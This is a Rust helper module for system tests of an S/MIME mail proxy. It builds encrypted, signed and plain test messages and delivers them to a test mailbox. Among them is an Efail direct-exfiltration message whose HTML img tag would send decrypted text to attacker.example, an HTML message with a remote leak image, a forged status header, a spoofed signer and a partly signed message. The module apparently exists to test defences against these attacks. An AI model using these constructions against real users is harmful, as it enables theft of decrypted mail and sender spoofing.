//! Helpers of the reading-side system tests: an envelopd for one practice in front of the
//! test provider, sending through it, and reading header fields of what comes back.

use std::process::Command;

use super::lab::{ok, Lab};
use super::provider::Provider;
use testkit::procs::{free_port, wait_for, Proc};

/// The text every test message carries (what must never reach the provider in the clear).
pub const SECRET: &str = "Befund Herr Muster: unauffaellig.";

/// The bytes of a base64 JSON string.
pub fn b64d(s: &serde_json::Value) -> Vec<u8> {
    smime::mime::base64_decode(s.as_str().unwrap().as_bytes()).unwrap()
}

/// envelopd for one practice: its key(s), the RFC 9216 CA, IMAP and SMTP in front of `provider`.
pub fn envelopd(
    provider: &Provider,
    who: &str,
    imap_tls: &str,
    imap_port: u16,
) -> (tempfile::TempDir, u16, u16, Proc) {
    envelopd_with(provider, who, imap_tls, imap_port, "")
}

/// Like [`envelopd`], with extra configuration appended (identity keys, a [policy] section).
pub fn envelopd_with(
    provider: &Provider,
    who: &str,
    imap_tls: &str,
    imap_port: u16,
    extra: &str,
) -> (tempfile::TempDir, u16, u16, Proc) {
    envelopd_env(provider, who, imap_tls, imap_port, extra, &[], "")
}

/// Like [`envelopd_with`], with extra environment variables for the daemon and extra lines for
/// its `[imap]` section.
pub fn envelopd_env(
    provider: &Provider,
    who: &str,
    imap_tls: &str,
    imap_port: u16,
    extra: &str,
    env: &[(&str, &str)],
    imap_extra: &str,
) -> (tempfile::TempDir, u16, u16, Proc) {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    super::practice_dir(d, who, &[]);
    let (smtp, imap) = (free_port(), free_port());
    std::fs::write(
        d.join("proxy.toml"),
        format!(
            "[smtp]\nlisten = \"127.0.0.1:{smtp}\"\n[imap]\nlisten = \"127.0.0.1:{imap}\"\n{imap_extra}\
             [upstream.smtp]\nhost = \"localhost\"\nport = {}\ntls = \"starttls\"\nca_file = \"{ca}\"\nsystem_roots = false\n\
             [upstream.imap]\nhost = \"localhost\"\nport = {imap_port}\ntls = \"{imap_tls}\"\nca_file = \"{ca}\"\nsystem_roots = false\n\
             [certificates]\nanchors = [\"trust\"]\nrecipients = \"certs\"\n\
             [[identity]]\naddresses = [\"{who}@smime.example\"]\npkcs12 = \"keys/{who}.p12\"\npassword_file = \"keys/pw\"\n{extra}",
            provider.submission,
            ca = provider.ca().display()
        ),
    )
    .unwrap();
    let p = super::run_envelopd_env(&d.join("proxy.toml"), &d.join("envelopd.log"), env);
    wait_for(smtp);
    wait_for(imap);
    (dir, smtp, imap, p)
}

/// Sends one message through an envelopd's SMTP side with swaks, logged in as `user`.
pub fn send_mail(port: u16, user: &str, pw: &str, to: &str, subject: &str) -> std::process::Output {
    Command::new("swaks")
        .args(["--server", &format!("127.0.0.1:{port}"), "--auth", "PLAIN"])
        .args(["--auth-user", user, "--auth-password", pw])
        .args(["--from", user, "--to", to])
        .args([
            "--header",
            &format!("Subject: {subject}"),
            "--header",
            &format!("From: {user}"),
        ])
        .args(["--body", SECRET])
        .output()
        .unwrap()
}

/// A plain test message from `from` to Bob.
pub fn mail(from: &str, subject: &str, body: &str) -> Vec<u8> {
    format!(
        "From: {from}\r\nTo: Bob <bob@smime.example>\r\nSubject: {subject}\r\nMessage-ID: <{subject}@test>\r\nDate: Wed, 25 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
    )
    .into_bytes()
    .into_iter()
    .chain(format!("Content-Type: text/plain; charset=us-ascii\r\n\r\n{body}\r\n").into_bytes())
    .collect()
}

/// Runs `openssl` with `input` on its standard input; its output.
pub fn openssl(args: &[&str], input: &[u8]) -> Vec<u8> {
    testkit::openssl_pipe(args, input).unwrap_or_else(|e| panic!("openssl {args:?}: {e}"))
}

/// The Subject field of a message.
pub fn subject_of(message: &[u8]) -> String {
    let text = String::from_utf8_lossy(message);
    text.lines()
        .find_map(|l| l.strip_prefix("Subject: ").map(str::to_string))
        .unwrap_or_default()
}

/// The status field envelopd put on a message, if any.
pub fn status_of(message: &[u8]) -> Option<String> {
    let e = smime::mime::split(message);
    let text = String::from_utf8_lossy(e.header);
    text.lines()
        .find_map(|l| l.strip_prefix("X-Envelopd: ").map(str::to_string))
}

/// IMAP BODYSTRUCTURE text with case and insignificant spacing normalised.
pub fn norm(s: &str) -> String {
    s.to_ascii_lowercase()
}

/// Delivers the reading sides' test set to Bob's mailbox: S/MIME from OpenSSL (signed, then
/// AES-256-GCM), gpgsm (BER, CBC) and NSS cmsutil (BER), a signature over one part only, a
/// forged status header, an Efail direct-exfiltration message, a signer who is not the sender,
/// mail encrypted only to Alice, CBC HTML with a remote image, a forwarded message inside an
/// encrypted one, and a plain message.
pub fn deliver_test_messages(provider: &Provider, lab: &Lab) {
    let v = super::rfc9216();
    let p = |n: &str| v.join(n).display().to_string();
    // openssl: signed by Alice, then AES-256-GCM AuthEnvelopedData to Bob.
    let signed = openssl(
        &[
            "cms",
            "-sign",
            "-signer",
            &p("alice.sign.crt"),
            "-inkey",
            &p("alice.sign.key"),
        ],
        &mail("Alice <alice@smime.example>", "openssl-gcm", SECRET),
    );
    let enc = openssl(
        &[
            "cms",
            "-encrypt",
            "-aes-256-gcm",
            "-from",
            "Alice <alice@smime.example>",
            "-to",
            "Bob <bob@smime.example>",
            "-subject",
            "openssl-gcm",
            &p("bob.encrypt.crt"),
        ],
        &signed,
    );
    provider.deliver("bob", "1.openssl", &enc);

    // gpgsm: BER with indefinite lengths, AES-256-CBC to Bob, wrapped by hand (gpgsm does no MIME).
    let inner =
        b"Content-Type: text/plain; charset=us-ascii\r\n\r\nBefund Herr Muster: unauffaellig.\r\n";
    let f = lab.write("gpgsm-in.txt", inner);
    let o = lab.gpgsm(
        &[
            "--encrypt",
            "--cipher-algo",
            "AES256",
            "-r",
            "bob@smime.example",
            "--output",
            "-",
            &f,
        ],
        None,
    );
    let der = ok(&o, "gpgsm --encrypt").unwrap();
    let mut m = b"From: Alice <alice@smime.example>\r\nTo: bob@smime.example\r\nSubject: gpgsm-ber\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n".to_vec();
    m.extend_from_slice(&smime::mime::base64_lines(&der));
    provider.deliver("bob", "2.gpgsm", &m);

    // NSS cmsutil (Thunderbird's engine): BER, to Bob, wrapped by hand.
    let o = super::lab::run(
        "certutil",
        &[
            "-A",
            "-d",
            &lab.nss_alice,
            "-n",
            "bob",
            "-t",
            ",,",
            "-i",
            &p("bob.encrypt.crt"),
        ],
        None,
        &[],
    );
    ok(&o, "certutil -A bob").unwrap();
    let out = lab.p("nss-out.p7m");
    let o = super::lab::run(
        "cmsutil",
        &[
            "-E",
            "-r",
            "bob@smime.example",
            "-i",
            &f,
            "-o",
            &out,
            "-d",
            &lab.nss_alice,
        ],
        None,
        &[],
    );
    ok(&o, "cmsutil -E").unwrap();
    let der = std::fs::read(&out).unwrap();
    let mut m = b"From: Alice <alice@smime.example>\r\nTo: bob@smime.example\r\nSubject: nss-ber\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n".to_vec();
    m.extend_from_slice(&smime::mime::base64_lines(&der));
    provider.deliver("bob", "2b.nss", &m);

    // A signature over one part only ("Johnny, you are fired"): no message-wide verdict.
    let signed_part = openssl(
        &[
            "cms",
            "-sign",
            "-signer",
            &p("alice.sign.crt"),
            "-inkey",
            &p("alice.sign.key"),
        ],
        b"Content-Type: text/plain\r\n\r\nI, Alice, approve.\r\n",
    );
    let part = smime::mime::split(&signed_part);
    let mut wrapped = b"From: Alice <alice@smime.example>\r\nTo: bob@smime.example\r\nSubject: part-signed\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"W\"\r\n\r\n--W\r\nContent-Type: text/plain\r\n\r\nYou are fired.\r\n--W\r\n".to_vec();
    wrapped.extend_from_slice(&signed_part[..signed_part.len() - part.body.len()]);
    wrapped.extend_from_slice(part.body);
    wrapped.extend_from_slice(b"\r\n--W--\r\n");
    provider.deliver("bob", "2c.partsigned", &wrapped);

    // A plain message with a forged status header.
    let mut forged =
        b"X-Envelopd: decrypted=aes-256-gcm; signature=valid; signer=alice@smime.example\r\n"
            .to_vec();
    forged.extend_from_slice(&mail(
        "Alice <alice@smime.example>",
        "forged-status",
        "Please wire the money.",
    ));
    provider.deliver("bob", "3.forged", &forged);

    // Efail direct exfiltration: an encrypted part between attacker HTML parts.
    let part = openssl(
        &["cms", "-encrypt", "-aes256", &p("bob.encrypt.crt")],
        format!("Content-Type: text/plain\r\n\r\n{SECRET}\r\n").as_bytes(),
    );
    let part = smime::mime::split(&part);
    let mut efail = b"From: Alice <alice@smime.example>\r\nTo: bob@smime.example\r\nSubject: efail\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"BOUNDARY\"\r\n\r\n--BOUNDARY\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--BOUNDARY\r\n".to_vec();
    efail.extend_from_slice(part.header);
    efail.extend_from_slice(b"\r\n");
    efail.extend_from_slice(part.body);
    efail.extend_from_slice(
        b"\r\n--BOUNDARY\r\nContent-Type: text/html\r\n\r\n\">\r\n--BOUNDARY--\r\n",
    );
    provider.deliver("bob", "4.efail", &efail);

    // Signed by Alice, but From: Carol.
    let spoof = openssl(
        &[
            "cms",
            "-sign",
            "-signer",
            &p("alice.sign.crt"),
            "-inkey",
            &p("alice.sign.key"),
        ],
        &mail(
            "Carol <carol@smime.example>",
            "from-mismatch",
            "I am Carol, honestly.",
        ),
    );
    provider.deliver("bob", "5.spoof", &spoof);

    // Encrypted only to Alice: Bob's envelopd cannot open it.
    let not_for_bob = openssl(
        &[
            "cms",
            "-encrypt",
            "-aes256",
            "-from",
            "alice@smime.example",
            "-to",
            "bob@smime.example",
            "-subject",
            "not-for-bob",
            &p("alice.encrypt.crt"),
        ],
        format!("Content-Type: text/plain\r\n\r\n{SECRET}\r\n").as_bytes(),
    );
    provider.deliver("bob", "6.notforbob", &not_for_bob);

    // HTML, CBC-encrypted, unsigned: a CBC gadget could have planted this image; it must not load.
    let html = openssl(
        &["cms", "-encrypt", "-aes256", "-from", "alice@smime.example", "-to", "bob@smime.example", "-subject", "html-cbc", &p("bob.encrypt.crt")],
        b"Content-Type: text/html; charset=us-ascii\r\n\r\n<p>Befund</p><img src=\"http://attacker.example/leak\">\r\n",
    );
    provider.deliver("bob", "8.html", &html);

    // A forwarded message inside an encrypted one: its BODYSTRUCTURE has an envelope of its own.
    let fwd = openssl(
        &["cms", "-encrypt", "-aes256", "-from", "alice@smime.example", "-to", "bob@smime.example", "-subject", "forwarded", &p("bob.encrypt.crt")],
        b"Content-Type: multipart/mixed; boundary=\"M\"\r\n\r\n--M\r\nContent-Type: text/plain\r\n\r\nSee the forwarded message.\r\n--M\r\nContent-Type: message/rfc822\r\n\r\nFrom: Carol <carol@smime.example>\r\nTo: bob@smime.example, Dana <dana@smime.example>\r\nSubject: original\r\nDate: Tue, 24 Nov 2026 09:00:00 +0000\r\nMessage-ID: <orig@test>\r\n\r\nOriginal text.\r\n--M--\r\n",
    );
    provider.deliver("bob", "9.fwd", &fwd);

    // Plain mail stays exactly as stored.
    provider.deliver(
        "bob",
        "7.plain",
        &mail("Carol <carol@smime.example>", "plain", "Hello Bob."),
    );
}
